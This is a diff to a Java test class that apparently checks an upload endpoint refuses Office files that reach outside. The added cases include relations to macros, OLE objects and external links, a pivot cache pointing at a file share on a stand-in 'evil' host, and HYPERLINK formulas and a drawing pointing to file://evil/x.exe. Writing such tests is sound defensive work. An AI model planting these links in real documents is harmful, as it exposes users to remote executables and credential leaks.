@@ -223,6 +223,28 @@ class HandingInFilesThatReachOutTest {
                                         "xl/t.xml",
                                         "<t><calculatedColumnFormula>COPILOT(A1)</calculatedColumnFormula></t>")
                                 .bytes()),
+                arguments("connections of a type that says nothing", ofPlainXml("connections")),
+                arguments("an extension of a type that says nothing", ofPlainXml("webextension")),
+                arguments("macros of a type that says nothing", ofPlainXml("vbaProject")),
+                arguments("a template of a type that says nothing", ofPlainXml("attachedTemplate")),
+                arguments("an object of a type that says nothing", ofPlainXml("oleObject")),
+                arguments("a workbook elsewhere of a type that says nothing", ofPlainXml("externalLink")),
+                arguments(
+                        "a workbook whose table counts a sheet of a file server",
+                        OfficeFile.sheet()
+                                .with(
+                                        "xl/pivotCache/p1.xml",
+                                        "<pivotCacheDefinition><cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B2\""
+                                                + " sheet=\"\\\\evil\\share\\[a.xlsx]S\"/></cacheSource></pivotCacheDefinition>")
+                                .bytes()),
+                arguments("a formula that leads to a program", formula("HYPERLINK(\"file://evil/x.exe\",\"x\")")),
+                arguments("a formula that leads to a file server", formula("HYPERLINK( \"\\\\evil\\x.exe\")")),
+                arguments(
+                        "a formula that leads to a program in a roundabout way",
+                        formula("HYPERLINK(IF(A1,\"file://evil/x.exe\",\"\"))")),
+                arguments(
+                        "a drawing of the old kind that leads to a program",
+                        withText("<v:rect href=\"file://evil/x.exe\"/>")),
                 arguments(
                         "a part that nobody names",
                         OfficeFile.text().with("word/x.dat", "x").bytes()));
@@ -292,6 +314,14 @@ class HandingInFilesThatReachOutTest {
 
         assertThat(refused.json().get("detail").asText()).contains(name);
         assertThat(floor.rows()).isEqualTo(before);
+    }
+
+    /** A relation to a part that is declared as nothing but XML. */
+    private static byte[] ofPlainXml(String relation) {
+        return OfficeFile.text()
+                .related(relation, "part.xml", false)
+                .with("word/part.xml", "<part/>")
+                .bytes();
     }
 
     private static byte[] related(String type, String target) {
